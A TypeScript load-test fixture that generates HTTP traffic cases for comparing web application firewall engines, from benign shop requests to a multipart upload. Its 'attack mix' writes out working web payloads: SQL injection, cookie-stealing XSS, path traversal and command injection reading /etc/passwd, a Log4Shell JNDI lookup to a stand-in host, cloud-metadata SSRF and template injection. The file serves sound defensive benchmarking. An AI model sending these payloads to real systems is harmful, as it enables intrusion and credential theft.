import type { LoadRequest } from './load.ts';

/** A kind of traffic, the same for every engine that is compared. */
export interface WafCase {
  readonly name: string;
  readonly connections: number;
  readonly requests: readonly LoadRequest[];
}

const BROWSER_HEADERS: Readonly<Record<string, string>> = {
  Host: 'shop.example.com',
  'User-Agent':
    'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36',
  Accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8',
  'Accept-Language': 'en-US,en;q=0.5',
  'Accept-Encoding': 'gzip, deflate, br',
  Referer: 'http://shop.example.com/products',
  Cookie: 'session=0f8fad5bd9cb469fa16570867728950e; theme=dark; cart=3',
};

/** As many as `bench -- gateway` has. */
const CONNECTIONS = 64;

/** Deterministic: the same bytes in every run, so that runs can be compared. */
export function makeWafCases(): WafCase[] {
  return [
    {
      name: 'benign GET',
      connections: CONNECTIONS,
      requests: [get('/products?page=2&sort=price&q=blue+shoes')],
    },
    {
      name: 'JSON POST 2 KB',
      connections: CONNECTIONS,
      requests: [post('application/json', json())],
    },
    { name: 'form of 20 fields', connections: CONNECTIONS, requests: [form(20)] },
    { name: 'form of 950 arguments', connections: CONNECTIONS, requests: [form(950)] },
    { name: 'multipart 200 KB', connections: CONNECTIONS, requests: [multipart(200 * 1024)] },
    { name: 'attack mix', connections: CONNECTIONS, requests: attacks() },
  ];
}

function get(path: string, extra: Readonly<Record<string, string>> = {}): LoadRequest {
  return { method: 'GET', path, headers: { ...BROWSER_HEADERS, ...extra } };
}

function post(type: string, body: Buffer, path = '/checkout'): LoadRequest {
  const headers = {
    ...BROWSER_HEADERS,
    'Content-Type': type,
    'Content-Length': String(body.length),
  };
  return { method: 'POST', path, headers, body };
}

function json(): Buffer {
  const items = Array.from({ length: 18 }, (_, index) => ({
    sku: `SKU-${1000 + index}`,
    title: `Running shoe number ${index}`,
    quantity: index % 5,
    price: 19.99 + index,
    gift: index % 2 === 0,
    tags: ['sport', 'blue'],
  }));
  return Buffer.from(
    JSON.stringify({ customer: 'Ada Lovelace', note: 'Leave at the door', items }),
  );
}

function form(fields: number): LoadRequest {
  const pairs = Array.from(
    { length: fields },
    (_, index) => `field${index}=${encodeURIComponent(`some value ${index}, plain words`)}`,
  );
  return post(
    'application/x-www-form-urlencoded',
    Buffer.from(pairs.join('&').replaceAll('%20', '+')),
  );
}

function multipart(fileBytes: number): LoadRequest {
  const boundary = '----WebKitFormBoundary7MA4YWxkTrZu0gW';
  const file = Buffer.alloc(fileBytes);
  // A picture-like file: bytes without structure, the same in every run.
  let state = 12345;
  for (let index = 0; index < file.length; index++) {
    state = (Math.imul(state, 1103515245) + 12345) >>> 0;
    file[index] = state >>> 16;
  }
  const body = Buffer.concat([
    Buffer.from(
      `--${boundary}\r\nContent-Disposition: form-data; name="title"\r\n\r\nHoliday picture\r\n` +
        `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="beach.png"\r\n` +
        `Content-Type: image/png\r\n\r\n`,
    ),
    file,
    Buffer.from(`\r\n--${boundary}--\r\n`),
  ]);
  return post(`multipart/form-data; boundary=${boundary}`, body, '/upload');
}

function attacks(): LoadRequest[] {
  const form = 'application/x-www-form-urlencoded';
  return [
    get('/products?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--%20-'),
    get('/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E'),
    get('/download?file=../../../../etc/passwd'),
    get('/ping?host=127.0.0.1;cat%20/etc/passwd'),
    get('/', { 'User-Agent': '${jndi:ldap://198.51.100.7/a}' }),
    get('/page?url=http://169.254.169.254/latest/meta-data/'),
    post(form, Buffer.from("user=admin'%20OR%20'1'='1&password=x"), '/login'),
    post(form, Buffer.from('name={{7*7}}&bio=%3Cimg%20src=x%20onerror=alert(1)%3E'), '/profile'),
  ];
}
